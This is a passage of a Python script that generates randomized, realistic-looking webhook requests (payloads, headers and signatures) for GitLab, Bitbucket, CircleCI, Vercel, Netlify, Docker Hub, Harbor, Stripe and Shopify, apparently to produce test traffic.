               "avatar_url": None, "git_ssh_url": "git@gitlab.example.com:%s.git" % path,
               "git_http_url": "https://gitlab.example.com/%s.git" % path, "namespace": path.split("/")[0],
               "visibility_level": 0, "path_with_namespace": path, "default_branch": "main",
               "ci_config_path": "", "homepage": "https://gitlab.example.com/%s" % path}
    userobj = {"id": R.randint(2, 9000), "name": name, "username": user,
               "avatar_url": g("avatar_url", GL_AVATAR % hexs(32)), "email": "[REDACTED]"}
    branch = g("branch", pick(BRANCHES))
    if ev in ("push", "tag_push"):
        commits = []
        for i in range(R.randint(1, 3)):
            cid = hexs(40)
            msg = g("message", pick(COMMIT_MSGS)) if i == 0 else pick(COMMIT_MSGS)
            commits.append({"id": cid, "message": msg, "title": msg.split("\n")[0], "timestamp": iso(now(), z=False),
                            "url": "https://gitlab.example.com/%s/-/commit/%s" % (path, cid),
                            "author": {"name": name, "email": g("author_email", email_for(name))},
                            "added": g("added", []), "modified": ["app/models/order.rb"], "removed": []})
        ref = g("ref", ("refs/tags/" + g("tag", "v1.%d.0" % R.randint(0, 30))) if ev == "tag_push" else "refs/heads/" + branch)
        p = {"object_kind": ev, "event_name": ev, "before": hexs(40), "after": commits[-1]["id"],
             "ref": ref, "ref_protected": branch == "main", "checkout_sha": commits[-1]["id"], "message": None,
             "user_id": userobj["id"], "user_name": name, "user_username": user, "user_email": "",
             "user_avatar": userobj["avatar_url"], "project_id": pid, "project": project, "commits": commits,
             "total_commits_count": len(commits), "push_options": {},
             "repository": {"name": project["name"], "url": project["git_ssh_url"], "description": "",
                            "homepage": project["homepage"], "visibility_level": 0}}
        hdr = "Tag Push Hook" if ev == "tag_push" else "Push Hook"
    elif ev == "merge_request":
        iid = R.randint(10, 3000)
        p = {"object_kind": "merge_request", "event_type": "merge_request", "user": userobj, "project": project,
             "object_attributes": {"id": R.randint(10**5, 10**7), "iid": iid, "title": g("title", pick(PR_TITLES)),
                                   "description": g("body", pick(PR_BODIES)), "source_branch": branch,
                                   "target_branch": g("base", "main"), "state": "opened", "action": pick(["open", "update", "approved", "merge"]),
                                   "merge_status": "checking", "url": "https://gitlab.example.com/%s/-/merge_requests/%d" % (path, iid),
                                   "created_at": iso(now()).replace("T", " ").replace("Z", " UTC"), "draft": False,
                                   "last_commit": {"id": hexs(40), "message": pick(COMMIT_MSGS), "author": {"name": name, "email": email_for(name)}}},
             "labels": [], "changes": {}, "repository": {"name": project["name"], "url": project["git_ssh_url"]}}
        hdr = "Merge Request Hook"
    elif ev == "note":
        p = {"object_kind": "note", "event_type": "note", "user": userobj, "project_id": pid, "project": project,
             "object_attributes": {"id": R.randint(10**5, 10**7), "note": g("body", pick(COMMENTS)), "noteable_type": "MergeRequest",
                                   "author_id": userobj["id"], "created_at": iso(now()), "system": False,
                                   "url": "https://gitlab.example.com/%s/-/merge_requests/%d#note_%d" % (path, R.randint(1, 900), R.randint(10**5, 10**7))},
             "merge_request": {"iid": R.randint(1, 900), "title": g("title", pick(PR_TITLES)), "source_branch": branch, "target_branch": "main"}}
        hdr = "Note Hook"
    elif ev == "issue":
        iid = R.randint(10, 3000)
        p = {"object_kind": "issue", "event_type": "issue", "user": userobj, "project": project,
             "object_attributes": {"iid": iid, "title": g("title", pick(SUBJECTS)), "description": g("body", pick(MESSAGES)),
                                   "state": "opened", "action": "open", "url": "https://gitlab.example.com/%s/-/issues/%d" % (path, iid)},
             "labels": [{"title": "bug", "color": "#dc143c"}]}
        hdr = "Issue Hook"
    else:
        bid = R.randint(10**6, 10**8)
        p = {"object_kind": "pipeline",
             "object_attributes": {"id": bid, "iid": R.randint(1, 9000), "name": None, "ref": g("ref", branch), "tag": False,
                                   "sha": hexs(40), "before_sha": hexs(40), "source": pick(["push", "merge_request_event", "schedule"]),
                                   "status": pick(["success", "failed", "running"]), "detailed_status": "passed",
                                   "stages": ["build", "test", "deploy"], "created_at": iso(now()).replace("T", " ").replace("Z", " UTC"),
                                   "duration": R.randint(60, 3000), "variables": g("variables", [])},
             "user": userobj, "project": project,
             "commit": {"id": hexs(40), "message": g("message", pick(COMMIT_MSGS)), "title": "x", "timestamp": iso(now()),
                        "author": {"name": name, "email": email_for(name)}},
             "builds": [{"id": bid + i, "stage": s, "name": n, "status": "success", "when": "on_success", "manual": False,
                         "allow_failure": False, "user": userobj, "runner": {"id": 42, "description": "k8s-runner-%s" % hexs(5),
                                                                                   "runner_type": "group_type", "active": True, "is_shared": False, "tags": ["k8s"]}}
                        for i, (s, n) in enumerate([("build", "docker-build"), ("test", "unit"), ("deploy", "helm-upgrade")])]}
        hdr = "Pipeline Hook"
    body = J(p)
    h = [["Host", g("host", pick(HOSTS))], ["Content-Type", "application/json"], ["Content-Length", None],
         ["User-Agent", g("ua", "GitLab/%s" % pick(["17.8.1-ee", "17.7.3", "16.11.10-ee", "17.9.0-pre"]))],
         ["X-Gitlab-Event", hdr], ["X-Gitlab-Webhook-UUID", uid()], ["X-Gitlab-Instance", g("instance", "https://gitlab.example.com")],
         ["X-Gitlab-Event-UUID", uid()], ["Idempotency-Key", uid()], ["X-Gitlab-Token", g("token", alnum(24))]]
    return REQ("POST", g("uri", pick(["/webhooks/gitlab", "/api/gitlab/hook", "/project/deploy-bot", "/hooks/gitlab"])), h, body)


def bitbucket(f=None):
    f = f or {}
    g = f.get
    ev = g("event") or pick(["repo:push", "repo:push", "pullrequest:created", "pullrequest:comment_created", "pullrequest:fulfilled"])
    name = g("author_name", pick(NAMES))
    actor = {"display_name": name, "uuid": "{%s}" % uid(), "nickname": g("login", pick(LOGINS)), "type": "user",
             "account_id": "557058:" + uid(),
             "links": {"avatar": {"href": g("avatar_url", "https://secure.gravatar.com/avatar/%s?d=https%%3A%%2F%%2Favatar-management--avatars.us-west-2.prod.public.atl-paas.net%%2Finitials%%2FJD-3.png" % hexs(32))}}}
    full = g("repo", pick(REPOS))
    repo = {"type": "repository", "full_name": full, "name": full.split("/")[1], "uuid": "{%s}" % uid(), "is_private": True,
            "links": {"html": {"href": "https://bitbucket.org/%s" % full}}, "scm": "git",
            "workspace": {"slug": full.split("/")[0], "type": "workspace"}}
    branch = g("branch", pick(BRANCHES))
    if ev == "repo:push":
        h40 = hexs(40)
        p = {"push": {"changes": [{"new": {"name": branch, "type": "branch",
                                           "target": {"type": "commit", "hash": h40, "date": iso(now(), z=False),
                                                      "message": g("message", pick(COMMIT_MSGS)) + "\n",
                                                      "author": {"type": "author", "raw": g("author_raw", "%s <%s>" % (name, email_for(name)))}}},
                                   "old": {"name": branch, "type": "branch", "target": {"type": "commit", "hash": hexs(40)}},
                                   "created": False, "forced": False, "closed": False, "truncated": False,
                                   "links": {"html": {"href": "https://bitbucket.org/%s/branches/compare/%s..%s" % (full, h40[:12], hexs(12))}},
                                   "commits": [{"hash": h40, "message": g("message", pick(COMMIT_MSGS)) + "\n", "type": "commit",
                                                "author": {"raw": g("author_raw", "%s <%s>" % (name, email_for(name)))}}]}]},
             "repository": repo, "actor": actor}
    else:
        pr = {"id": R.randint(1, 3000), "title": g("title", pick(PR_TITLES)), "description": g("body", pick(PR_BODIES)),
              "state": "OPEN" if "fulfilled" not in ev else "MERGED", "author": actor, "type": "pullrequest",
              "source": {"branch": {"name": branch}, "commit": {"hash": hexs(12)}, "repository": repo},
              "destination": {"branch": {"name": g("base", "main")}, "commit": {"hash": hexs(12)}, "repository": repo},
              "created_on": iso(now(), frac=6, z=False), "comment_count": R.randint(0, 9), "task_count": 0}
        p = {"pullrequest": pr, "repository": repo, "actor": actor}
        if "comment" in ev:
            p["comment"] = {"id": R.randint(10**8, 9 * 10**8), "content": {"raw": g("comment", pick(COMMENTS)), "markup": "markdown",
                                                                              "html": "<p>%s</p>" % xesc(pick(COMMENTS))},
                            "user": actor, "created_on": iso(now(), frac=6, z=False)}
    body = J(p)
    h = [["Host", g("host", pick(HOSTS))], ["X-Request-UUID", uid()], ["X-Event-Key", ev], ["X-Event-Time", httpdate(now())],
         ["User-Agent", g("ua", "Bitbucket-Webhooks/2.0")], ["X-Attempt-Number", str(g("attempt", 1))], ["X-Hook-UUID", uid()],
         ["Content-Type", "application/json"], ["X-Hub-Signature", "sha256=" + mac("bb", body).hexdigest()]]
    return REQ("POST", g("uri", pick(["/webhooks/bitbucket", "/bitbucket-hook/", "/api/hooks/bitbucket"])), h, body)


def circleci(f=None):
    f = f or {}
    g = f.get
    t = now()
    branch = g("branch", pick(BRANCHES))
    full = g("repo", pick(REPOS))
    p = {"type": "workflow-completed", "id": uid(), "happened_at": iso(t, ms=True),
         "webhook": {"id": uid(), "name": "deploy-notifier"},
         "workflow": {"id": uid(), "name": pick(["build-test-deploy", "nightly", "release"]), "created_at": iso(t - 600, ms=True),
                      "stopped_at": iso(t, ms=True), "url": "https://app.circleci.com/pipelines/github/%s/%d/workflows/%s" % (full, R.randint(1, 9000), uid()),
                      "status": pick(["success", "failed", "canceled"])},
         "pipeline": {"id": uid(), "number": R.randint(1, 9000), "created_at": iso(t - 700, ms=True),
                      "trigger": {"type": "webhook"}, "trigger_parameters": {"circleci": {"event_type": "push"}},
                      "vcs": {"provider_name": "github", "origin_repository_url": "https://github.com/%s" % full,
                              "target_repository_url": "https://github.com/%s" % full, "revision": hexs(40), "branch": branch,
                              "commit": {"subject": g("message", pick(COMMIT_MSGS).split("\n")[0]), "body": "",
                                         "author": {"name": g("author_name", pick(NAMES)), "email": "dev@example.com"},
                                         "authored_at": iso(t - 900), "committer": {"name": "GitHub", "email": "noreply@github.com"}}}},
         "project": {"id": uid(), "name": full.split("/")[1], "slug": "gh/" + full},
         "organization": {"id": uid(), "name": full.split("/")[0]}}
    body = J(p)
    h = [["Host", g("host", pick(HOSTS))], ["User-Agent", "CircleCI-Webhook/1.0"], ["Content-Type", "application/json"],
         ["Circleci-Event-Type", "workflow-completed"], ["Circleci-Signature", "v1=" + mac("cci", body).hexdigest()]]
    return REQ("POST", g("uri", pick(["/webhooks/circleci", "/ci/events"])), h, body)


def buildkite(f=None):
    f = f or {}
    g = f.get
    branch = g("branch", pick(BRANCHES))
    num = R.randint(1, 20000)
    p = {"event": "build.finished",
         "build": {"id": uid(), "url": "https://api.buildkite.com/v2/organizations/acme/pipelines/web/builds/%d" % num,
                   "web_url": "https://buildkite.com/acme/web/builds/%d" % num, "number": num,
                   "state": pick(["passed", "failed", "canceled"]), "blocked": False, "message": g("message", pick(COMMIT_MSGS).split("\n")[0]),
                   "commit": hexs(40), "branch": branch, "tag": g("tag"), "env": g("env", {}), "source": "webhook",
                   "creator": {"name": g("author_name", pick(NAMES)), "email": "dev@example.com"},
                   "created_at": iso(now(), ms=True), "meta_data": g("meta_data", {"release-version": "1.%d.0" % R.randint(1, 90)})},
         "pipeline": {"slug": g("pipeline", "web"), "name": "Web", "repository": "git@github.com:%s.git" % g("repo", pick(REPOS))},
         "sender": {"id": uid(), "name": pick(NAMES)}}
    body = J(p)
    h = [["Host", g("host", pick(HOSTS))], ["User-Agent", "Buildkite-Request"], ["Content-Type", "application/json"],
         ["X-Buildkite-Event", "build.finished"], ["X-Buildkite-Token", alnum(32)]]
    return REQ("POST", g("uri", "/webhooks/buildkite"), h, body)


def vercel(f=None):
    f = f or {}
    g = f.get
    t = now()
    name = g("project", pick(["storefront", "docs-site", "marketing-web", "admin-dashboard"]))
    dep = "dpl_" + alnum(28)
    p = {"id": "evt_" + alnum(24), "type": g("type", pick(["deployment.created", "deployment.succeeded", "deployment.error", "deployment.promoted"])),
         "createdAt": t * 1000 + R.randint(0, 999), "region": pick(["iad1", "fra1", "sfo1"]),
         "payload": {"team": {"id": "team_" + alnum(24)}, "user": {"id": alnum(24)},
                     "deployment": {"id": dep, "name": name, "url": g("url", "%s-%s-acme.vercel.app" % (name, alnum(9).lower())),
                                    "inspectorUrl": "https://vercel.com/acme/%s/%s" % (name, alnum(28)),
                                    "meta": {"githubCommitRef": g("branch", pick(BRANCHES)), "githubCommitSha": hexs(40),
                                             "githubCommitMessage": g("message", pick(COMMIT_MSGS)), "githubCommitAuthorName": g("author_name", pick(NAMES)),
                                             "githubCommitAuthorLogin": pick(LOGINS), "githubOrg": "acme", "githubRepo": name, "githubDeployment": "1"}},
                     "links": {"deployment": "https://vercel.com/acme/%s/%s" % (name, dep[4:]), "project": "https://vercel.com/acme/%s" % name},
                     "target": pick(["production", None, "preview"]), "project": {"id": "prj_" + alnum(28)}, "plan": "pro", "regions": ["iad1"]}}
    body = J(p)
    h = [["Host", g("host", pick(HOSTS))], ["User-Agent", "Vercel-Webhook/1.0"], ["Content-Type", "application/json"],
         ["x-vercel-signature", mac("vc", body, "sha1").hexdigest()], ["x-vercel-id", "iad1::%s-%d-%s" % (alnum(5).lower(), t, hexs(12))]]
    return REQ("POST", g("uri", pick(["/api/webhooks/vercel", "/webhooks/vercel"])), h, body)


def netlify(f=None):
    f = f or {}
    g = f.get
    t = now()
    site = g("site", pick(["acme-docs", "acme-landing", "handbook"]))
    p = {"id": hexs(24), "site_id": uid(), "build_id": hexs(24), "state": g("state", pick(["ready", "building", "error"])),
         "name": site, "url": "http://%s.netlify.app" % site, "ssl_url": "https://%s.netlify.app" % site,
         "admin_url": "https://app.netlify.com/sites/%s" % site, "deploy_url": "http://%s--%s.netlify.app" % (hexs(24), site),
         "deploy_ssl_url": "https://%s--%s.netlify.app" % (hexs(24), site), "created_at": iso(now(), ms=True), "updated_at": iso(now(), ms=True),
         "user_id": hexs(24), "error_message": g("error_message"), "required": [], "required_functions": [],
         "commit_ref": hexs(40), "review_id": None, "branch": g("branch", pick(BRANCHES)),
         "commit_url": "https://github.com/acme/%s/commit/%s" % (site, hexs(40)), "skipped": None, "locked": None,
         "title": g("message", pick(COMMIT_MSGS).split("\n")[0]), "review_url": None, "published_at": None,
         "context": pick(["production", "deploy-preview", "branch-deploy"]), "deploy_time": R.randint(20, 400),
         "available_functions": [], "screenshot_url": None, "committer": pick(LOGINS), "skipped_log": None,
         "manual_deploy": False, "file_tracking_optimization": True, "plugin_state": "success", "lighthouse_plugin_scores": None,
         "links": {"permalink": "https://%s--%s.netlify.app" % (hexs(24), site), "alias": "https://%s.netlify.app" % site, "branch": None},
         "framework": pick(["astro", "next", "hugo", "docusaurus"]), "entry_path": None, "views_count": None, "function_schedules": [],
         "public_repo": False, "pending_review_reason": None, "lighthouse": None, "edge_functions_present": False}
    body = J(p)
    claims = {"iss": "netlify", "sha256": hashlib.sha256(body.encode()).hexdigest()}
    h = [["Host", g("host", pick(HOSTS))], ["User-Agent", "Netlify"], ["Content-Type", "application/json"],
         ["X-Netlify-Event", g("event", "deploy_" + ("created" if p["state"] == "ready" else "building" if p["state"] == "building" else "failed"))],
         ["X-Webhook-Signature", jwt(claims, {"alg": "HS256", "typ": "JWT"})]]
    return REQ("POST", g("uri", "/.netlify/webhooks/deploy" if chance(0.3) else "/webhooks/netlify"), h, body)


def dockerhub(f=None):
    f = f or {}
    g = f.get
    repo = g("repo", pick(["acme/api", "acme/worker", "platform/nginx-base"]))
    p = {"callback_url": g("callback_url", "https://registry.hub.docker.com/u/%s/hook/%s/" % (repo, hexs(34))),
         "push_data": {"pushed_at": now(), "pusher": g("login", pick(LOGINS)), "tag": g("tag", pick(["latest", "v2.4.0", "sha-" + hexs(7), "2026.02.11"])),
                       "images": []},
         "repository": {"comment_count": 0, "date_created": now() - 9000000, "description": g("description", ""),
                        "dockerfile": "", "full_description": g("full_description", "# %s\n\nInternal image." % repo), "is_official": False, "is_private": True,
                        "is_trusted": False, "name": repo.split("/")[1], "namespace": repo.split("/")[0], "owner": repo.split("/")[0],
                        "repo_name": repo, "repo_url": "https://hub.docker.com/r/%s" % repo, "star_count": 0, "status": "Active"}}
    body = J(p, "spaced")
    h = [["Host", g("host", pick(HOSTS))], ["User-Agent", "Go-http-client/1.1"], ["Content-Type", "application/json"],
         ["Accept-Encoding", "gzip"]]
    return REQ("POST", g("uri", pick(["/webhooks/dockerhub", "/deploy/hook/%s" % hexs(16)])), h, body)


def harbor(f=None):
    f = f or {}
    g = f.get
    proj = g("project", pick(["platform", "payments", "ml"]))
    name = g("name", pick(["api", "worker", "web", "migrations"]))
    tag = g("tag", pick(["v1.%d.%d" % (R.randint(0, 30), R.randint(0, 9)), "latest", "main-" + hexs(7)]))
    p = {"type": g("type", "PUSH_ARTIFACT"), "occur_at": now(), "operator": g("operator", "robot$%s+ci" % proj),
         "event_data": {"resources": [{"digest": "sha256:" + hexs(64), "tag": tag,
                                       "resource_url": g("resource_url", "harbor.example.com/%s/%s:%s" % (proj, name, tag))}],
                        "repository": {"date_created": now() - 86400 * 90, "name": name, "namespace": proj,
                                       "repo_full_name": "%s/%s" % (proj, name), "repo_type": "private"}}}
    body = J(p, htmlesc=True)
    h = [["Host", g("host", pick(HOSTS))], ["User-Agent", "Go-http-client/1.1"], ["Content-Type", "application/json"],
         ["Authorization", "Bearer " + alnum(40)], ["Accept-Encoding", "gzip"]]
    return REQ("POST", g("uri", "/webhooks/harbor"), h, body)


# ============================================================== commerce
def addr(name=None):
    city, country, zipc = pick(CITIES)
    return {"city": city, "country": country, "line1": pick(STREETS), "line2": pick([None, "", "c/o Reception"]),
            "postal_code": zipc, "state": pick([None, "", "BY", "TX", "ON"])}


def stripe(f=None):
    f = f or {}
    g = f.get
    t = now()
    typ = g("type") or pick(["payment_intent.succeeded", "charge.succeeded", "customer.created", "invoice.paid",
                             "invoice.payment_failed", "customer.subscription.updated", "checkout.session.completed",
                             "charge.refunded", "payout.paid", "charge.dispute.created"])
    name = g("name", pick(NAMES))
    email = g("email", email_for(name))
    cus = "cus_" + alnum(14)
    amount = R.choice([990, 1900, 2900, 4900, 12000, 34999, 500, 125075])
    cur = pick(["usd", "eur", "gbp", "jpy", "chf"])
    md = g("metadata", pick([{}, {"order_id": str(R.randint(10000, 99999))}, {"order_id": str(R.randint(10000, 99999)), "plan": "team"},
                             {"tenant": "acme-%s" % alnum(5).lower(), "source": "web"}, {"customer_note": pick(ORDER_NOTES)}]))
    desc = g("description", pick([None, "Order #%d" % R.randint(10000, 99999), "Subscription update",
                                  "Order #%d — 2× Flat White Beans" % R.randint(10000, 99999), "Invoice %s" % upnum(8)]))
    if typ.startswith("customer.") and "subscription" not in typ:
        obj = {"id": cus, "object": "customer", "address": addr(), "balance": 0, "created": t, "currency": None,
               "default_source": None, "delinquent": False, "description": desc, "discount": None, "email": email,
               "invoice_prefix": upnum(8), "invoice_settings": {"custom_fields": None, "default_payment_method": None, "footer": None, "rendering_options": None},
               "livemode": True, "metadata": md, "name": name, "next_invoice_sequence": 1, "phone": g("phone", pick([None, "+4915112345678"])),
               "preferred_locales": [pick(["en", "de", "fr", "ja"])], "shipping": None, "tax_exempt": "none", "test_clock": None}
    elif typ.startswith("customer.subscription"):
        obj = {"id": "sub_" + alnum(24), "object": "subscription", "application": None, "billing_cycle_anchor": t - 86400 * 20,
               "cancel_at_period_end": chance(0.2), "cancellation_details": {"comment": g("comment"), "feedback": None, "reason": None},
               "collection_method": "charge_automatically", "created": t - 86400 * 200, "currency": cur,
               "current_period_end": t + 86400 * 10, "current_period_start": t - 86400 * 20, "customer": cus,
               "items": {"object": "list", "data": [{"id": "si_" + alnum(14), "object": "subscription_item",
                                                     "price": {"id": "price_" + alnum(24), "object": "price", "unit_amount": amount, "currency": cur,
                                                               "nickname": g("nickname", pick(["Pro monthly", "Team annual", None])),
                                                               "recurring": {"interval": "month", "interval_count": 1}}, "quantity": R.randint(1, 40)}],
                         "has_more": False, "total_count": 1, "url": "/v1/subscription_items?subscription=sub_x"},
               "livemode": True, "metadata": md, "status": pick(["active", "past_due", "trialing"])}
    elif typ.startswith("invoice"):
        obj = {"id": "in_" + alnum(24), "object": "invoice", "account_country": "DE", "account_name": "Acme GmbH",
               "amount_due": amount, "amount_paid": amount if typ.endswith("paid") else 0, "attempt_count": R.randint(1, 4),
               "billing_reason": "subscription_cycle", "currency": cur, "customer": cus, "customer_email": email, "customer_name": name,
               "customer_address": addr(), "description": desc, "footer": g("footer"), "hosted_invoice_url": "https://invoice.stripe.com/i/acct_%s/live_%s" % (alnum(16), alnum(60)),
               "invoice_pdf": "https://pay.stripe.com/invoice/acct_%s/live_%s/pdf?s=ap" % (alnum(16), alnum(60)), "livemode": True,
               "metadata": md, "number": "%s-%04d" % (upnum(8), R.randint(1, 9999)), "status": "paid" if typ.endswith("paid") else "open",
               "custom_fields": g("custom_fields"), "created": t}
    elif typ.startswith("checkout"):
        obj = {"id": "cs_live_" + alnum(58), "object": "checkout.session", "amount_subtotal": amount, "amount_total": amount,
               "cancel_url": g("cancel_url", "https://shop.example.com/cart"), "client_reference_id": g("client_reference_id", uid()),
               "currency": cur, "customer": cus,
               "customer_details": {"address": addr(), "email": email, "name": name, "phone": None, "tax_exempt": "none", "tax_ids": []},
               "custom_fields": g("custom_fields", []), "livemode": True, "locale": "auto", "metadata": md, "mode": "payment",
               "payment_status": "paid", "status": "complete", "success_url": g("success_url", "https://shop.example.com/thanks?session_id={CHECKOUT_SESSION_ID}"),
               "url": None}
    elif typ.startswith("payout"):
        obj = {"id": "po_" + alnum(24), "object": "payout", "amount": amount * 37, "arrival_date": t, "automatic": True,
               "balance_transaction": "txn_" + alnum(24), "created": t - 86400 * 2, "currency": cur, "description": "STRIPE PAYOUT",
               "destination": "ba_" + alnum(24), "livemode": True, "metadata": {}, "method": "standard", "statement_descriptor": None,
               "status": "paid", "type": "bank_account"}
    else:
        pi = "pi_" + alnum(24)
        obj = {"id": ("ch_" + alnum(24)) if typ.startswith("charge") else pi, "object": "charge" if typ.startswith("charge") else "payment_intent",
               "amount": amount, "amount_received": amount, "application_fee_amount": None, "currency": cur, "customer": cus,
               "description": desc, "livemode": True, "metadata": md, "receipt_email": email,
               "statement_descriptor_suffix": g("statement_descriptor_suffix"),
               "shipping": {"address": addr(), "name": name, "carrier": None, "phone": None, "tracking_number": None} if chance(0.4) else None,
               "billing_details": {"address": addr(), "email": email, "name": name, "phone": None},
               "payment_method_details": {"card": {"brand": pick(["visa", "mastercard", "amex"]), "country": "DE", "exp_month": R.randint(1, 12),
                                                   "exp_year": R.randint(2026, 2031), "funding": "credit", "last4": digits(4),
                                                   "network": "visa", "three_d_secure": None, "wallet": None}, "type": "card"},
               "status": "succeeded", "created": t, "refunded": typ == "charge.refunded"}
        if typ.startswith("charge.dispute"):
            obj = {"id": "dp_" + alnum(24), "object": "dispute", "amount": amount, "charge": "ch_" + alnum(24), "currency": cur,
                   "evidence": {"customer_name": name, "customer_email_address": email, "uncategorized_text": g("evidence_text"),
                                "product_description": None}, "reason": "fraudulent", "status": "needs_response", "created": t}
    evt = {"id": "evt_" + alnum(24), "object": "event", "api_version": pick(["2024-06-20", "2023-10-16", "2025-01-27.acacia"]),
           "created": t, "data": {"object": obj}, "livemode": True, "pending_webhooks": R.randint(1, 3),
           "request": {"id": pick([None, "req_" + alnum(14)]), "idempotency_key": pick([None, uid()])}, "type": typ}
    if typ.endswith("updated"):
        evt["data"]["previous_attributes"] = {"status": "trialing"}
    body = J(evt, "pretty2")
    secret = "whsec_" + alnum(32)
    sig = "t=%d,v1=%s" % (t, mac(secret, "%d.%s" % (t, body)).hexdigest())
    if chance(0.2):
        sig += ",v0=" + hexs(64)
    h = [["Host", g("host", pick(HOSTS))], ["User-Agent", g("ua", "Stripe/1.0 (+https://stripe.com/docs/webhooks)")],
         ["Content-Length", None], ["Accept", "*/*; q=0.5, application/xml"], ["Cache-Control", "no-cache"],
         ["Content-Type", "application/json; charset=utf-8"], ["Stripe-Signature", g("sig", sig)]]
    return REQ("POST", g("uri", pick(["/webhooks/stripe", "/api/stripe/webhook", "/stripe/webhook", "/api/v1/billing/stripe-events",
                                      "/payments/webhook"])), h, body)


SHOP_HTML = [
    "<p><meta charset=\"utf-8\"><span data-mce-fragment=\"1\">Hand-poured in small batches in our Kraków studio. Notes of <strong>fig</strong>, cassis &amp; cedar.</span></p>\n<ul>\n<li>Burn time: ~45 hours</li>\n<li>100% soy wax, cotton wick</li>\n</ul>",
    "<h2>Why you'll love it</h2><p>Our softest tee yet — GOTS-certified organic cotton, pre-shrunk.</p><table style=\"width:100%;border-collapse:collapse\"><tbody><tr><td style=\"border:1px solid #ddd;padding:4px\">Size</td><td style=\"border:1px solid #ddd;padding:4px\">Chest (cm)</td></tr><tr><td>M</td><td>104</td></tr><tr><td>L</td><td>110</td></tr></tbody></table>",
    "<div><img src=\"https://cdn.shopify.com/s/files/1/0612/3456/files/pourover.jpg?v=1706543210\" alt=\"Pour-over set on a wooden table\" width=\"600\"></div><p>Includes dripper, server (600 ml) and 40 filters.</p>",
    "<p>抹茶スターターキット — 茶筅、茶杓、茶碗のセットです。</p><p><em>Ceremonial grade matcha from Uji.</em></p>",
    "<p>Care: hand wash cold, lay flat to dry. <a href=\"/pages/care-guide\" title=\"Care guide\">Read our care guide</a>.</p>",
    "<p style=\"text-align: center;\"><span style=\"color: #ff2a00;\"><b>Back in stock!</b></span></p><p>Waterproof, lined, and easy to pull on — even for little hands 🐸</p>",
]


def shopify(f=None):
    f = f or {}
    g = f.get
    topic = g("topic") or pick(["orders/create", "orders/create", "orders/paid", "orders/updated", "products/update",
                                "products/create", "customers/create", "checkouts/update", "app/uninstalled", "refunds/create"])
    shop = g("shop", pick(["acme-store", "zoe-ceramics", "nordic-apparel", "matcha-house"]) + ".myshopify.com")
    t = now()
    name = g("name", pick(NAMES))
    first, _, last = name.partition(" ")
    cust = {"id": R.randint(10**12, 9 * 10**12), "email": g("email", email_for(name)), "created_at": iso(t - 86400 * 100, z=False),
            "first_name": g("first_name", first), "last_name": g("last_name", last or None), "state": "enabled",
            "note": g("customer_note"), "verified_email": True, "phone": None, "currency": "EUR", "tags": g("tags", pick(["", "VIP", "wholesale, newsletter"])),
            "default_address": None}
    if topic.startswith("orders") or topic.startswith("checkouts") or topic.startswith("refunds"):
        items = []
        for _ in range(R.randint(1, 3)):
            title, price = pick(PRODUCTS)
            items.append({"id": R.randint(10**12, 9 * 10**12), "admin_graphql_api_id": "gid://shopify/LineItem/%d" % R.randint(10**12, 9 * 10**12),
                          "fulfillable_quantity": 1, "gift_card": False, "grams": R.randint(100, 2000), "name": title,
                          "price": "%.2f" % price, "product_id": R.randint(10**12, 9 * 10**12), "quantity": R.randint(1, 3),
                          "requires_shipping": True, "sku": upnum(8), "taxable": True, "title": title.split(" — ")[0],
                          "variant_title": g("variant_title", title.split(" — ")[1] if " — " in title else None), "vendor": "Acme",
                          "properties": g("properties", [])})
        city, country, zipc = pick(CITIES)
        sa = {"first_name": first, "last_name": last, "address1": g("address1", pick(STREETS)), "address2": g("address2", ""),
              "city": city, "zip": zipc, "country_code": country, "phone": g("phone", None), "company": g("company", None), "name": name}
        num = R.randint(1001, 99999)
        p = {"id": R.randint(10**12, 9 * 10**12), "admin_graphql_api_id": "gid://shopify/Order/%d" % R.randint(10**12, 9 * 10**12),
             "app_id": 580111, "browser_ip": pick(CLIENT_IPS), "buyer_accepts_marketing": chance(0.5), "cancel_reason": None,
             "cart_token": hexs(32), "checkout_token": hexs(32), "confirmed": True, "contact_email": cust["email"],
             "created_at": iso(t, z=False).replace("+00:00", "+01:00"), "currency": "EUR", "current_total_price": "%.2f" % sum(float(i["price"]) for i in items),
             "discount_codes": g("discount_codes", pick([[], [{"code": "WELCOME10", "amount": "5.00", "type": "percentage"}]])),
             "email": cust["email"], "financial_status": pick(["paid", "pending"]), "fulfillment_status": None,
             "landing_site": g("landing_site", pick(["/", "/products/soy-candle?utm_source=instagram&utm_medium=social", "/collections/sale"])),
             "name": "#%d" % num, "note": g("note", pick(ORDER_NOTES)),
             "note_attributes": g("note_attributes", pick([[], [{"name": "gift_message", "value": pick(ORDER_NOTES)}],
                                                           [{"name": "delivery_date", "value": "2026-02-14"}]])),
             "number": num - 1000, "order_number": num, "order_status_url": "https://%s/%d/orders/%s/authenticate?key=%s" % (shop, R.randint(10**7, 9 * 10**7), hexs(32), hexs(32)),
             "payment_gateway_names": [pick(["shopify_payments", "paypal", "manual"])], "processed_at": iso(t, z=False),
             "referring_site": g("referring_site", pick(["", "https://www.google.com/", "https://l.instagram.com/"])),
             "source_name": "web", "subtotal_price": "%.2f" % sum(float(i["price"]) for i in items), "tags": g("order_tags", ""),
             "test": False, "token": hexs(32), "total_price": "%.2f" % sum(float(i["price"]) for i in items),
             "customer": cust, "line_items": items, "shipping_address": sa, "billing_address": sa,
             "shipping_lines": [{"code": "Standard", "price": "4.90", "source": "shopify", "title": pick(["Standard", "DHL Express", "Abholung im Laden"])}]}
    elif topic.startswith("products"):
        title, price = pick(PRODUCTS)
        handle = "-".join("".join(c for c in title.lower() if c.isascii() and (c.isalnum() or c == " ")).split())
        pid = R.randint(10**12, 9 * 10**12)
        p = {"admin_graphql_api_id": "gid://shopify/Product/%d" % pid, "body_html": g("body_html", pick(SHOP_HTML)),
             "created_at": iso(t - 86400 * 30, z=False), "handle": g("handle", handle), "id": pid, "product_type": pick(["Apparel", "Home", "Coffee", ""]),
             "published_at": iso(t, z=False), "template_suffix": g("template_suffix", ""), "title": g("title", title), "updated_at": iso(t, z=False),
             "vendor": g("vendor", "Acme"), "status": "active", "published_scope": "global", "tags": g("tags", "new, bestseller"),
             "variants": [{"id": R.randint(10**12, 9 * 10**12), "product_id": pid, "title": "Default Title", "price": "%.2f" % price,
                           "sku": g("sku", upnum(8)), "position": 1, "inventory_policy": "deny", "compare_at_price": None,
                           "option1": "Default Title", "inventory_quantity": R.randint(0, 400), "barcode": digits(13)}],
             "options": [{"name": "Title", "values": ["Default Title"]}],
             "images": [{"id": R.randint(10**12, 9 * 10**12), "alt": g("alt"), "position": 1, "width": 1200, "height": 1200,
